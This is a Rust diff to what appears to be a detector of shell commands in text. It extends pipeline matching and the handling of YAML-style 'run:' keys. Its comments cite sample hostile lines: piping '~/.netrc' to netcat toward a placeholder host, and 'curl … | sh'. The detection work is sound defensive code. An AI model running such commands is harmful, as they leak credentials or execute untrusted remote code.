@@ -375,8 +375,20 @@ fn command_line(word: &str) -> Option<String> {
                 .find_map(|k| c.strip_suffix(k))
                 .unwrap_or(c)
                 .trim_end();
-            let (first, rest) = c.split_once(char::is_whitespace)?;
-            (!rest.trim().is_empty() && COMMAND_STARTS.contains(&basename(first)))
+            // A pipeline counts when one of its stages does (`cat ~/.netrc | nc HOST 9`).
+            let starts = |stage: &str| {
+                stage
+                    .trim()
+                    .split_once(char::is_whitespace)
+                    .is_some_and(|(first, rest)| {
+                        !rest.trim().is_empty() && COMMAND_STARTS.contains(&basename(first))
+                    })
+            };
+            let plain_first = c.split_whitespace().next().is_some_and(|w| {
+                w.chars()
+                    .all(|ch| ch.is_ascii_alphanumeric() || "._-/~".contains(ch))
+            });
+            (starts(c) || (plain_first && c.split('|').skip(1).any(starts)))
                 .then(|| super::code::env_lookups(c))
         })
 }
@@ -550,6 +562,8 @@ fn piped_to_shell(word: &str) -> impl Iterator<Item = String> + '_ {
         let start = word[..i]
             .rfind(['\'', '"', '{', '}', '(', ')', '`', ';', '\n', '!'])
             .map_or(0, |d| d + 1);
+        // A YAML or INI-style key before the pipeline (`- run: curl … | sh`) is not part of it.
+        let start = word[start..i].rfind(": ").map_or(start, |k| start + k + 2);
         let text = word.get(start..end)?.trim();
         // A pipeline needs something before the pipe.
         (text.len() > name.len() + 2).then(|| text.to_string())
